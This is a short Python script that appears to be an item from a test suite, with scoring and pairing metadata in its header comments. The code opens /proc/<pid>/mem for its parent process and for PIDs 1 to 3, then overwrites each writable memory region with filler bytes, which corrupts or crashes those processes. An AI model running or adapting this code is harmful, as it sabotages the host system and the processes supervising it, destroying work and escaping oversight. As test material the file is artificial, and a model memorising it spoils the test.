# Writes into the memory of its parents.
# cell: q2-open
# points: q1=2 q2=3 q3=4
# beside: another participant
# answers: q1-twin q2-twin
# function: yes
import os

for pid in (os.getppid(), 1, 2, 3):
    if pid == os.getpid():
        continue
    try:
        with open(f"/proc/{pid}/maps") as file:
            rows = [row for row in file if " rw" in row]
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
            for row in rows:
                memory.seek(int(row.split("-")[0], 16))
                memory.write(b"\x90" * 4096)
    except (OSError, ValueError, OverflowError) as error:
        print(pid, error)
